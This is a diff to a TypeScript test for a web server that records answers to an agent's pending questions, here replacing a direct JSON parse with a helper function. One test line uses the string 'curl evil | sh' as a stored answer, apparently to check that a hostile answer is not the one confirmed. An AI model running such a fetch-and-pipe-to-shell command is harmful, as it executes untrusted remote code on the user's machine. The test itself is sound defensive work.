@@ -16,6 +16,7 @@ import { claimPathOf } from "../../src/pending/claims.js";
 import { createPendingFile, savePendingFile } from "../../src/pending/pending-file.js";
 import {
 	answersFingerprint,
+	answersInText,
 	type FingerprintRecord,
 	fingerprintRecord,
 	GIVEN_ON_PAGE,
@@ -645,7 +646,8 @@ describe("pi-ask-anywhere web server", () => {
 		expect(JSON.parse(readFileSync(path, "utf8")).questions[0].answer).toBe("curl evil | sh");
 		const confirmed = await post(base, "/api/pending/answer", cookie, answer(true));
 		expect(confirmed.status).toBe(200);
-		const written = JSON.parse(readFileSync(path, "utf8")) as { toolCallId: string; questions: { answer: unknown }[] };
+		const written = answersInText(readFileSync(path, "utf8"));
+		if (!written) throw new Error("the answered file does not parse");
 		expect(written.questions[0]?.answer).toBe("SQLite");
 		expect(given.has(answersFingerprint(written))).toBe(true);
 		expect(given.has(answersFingerprint(filled))).toBe(false);
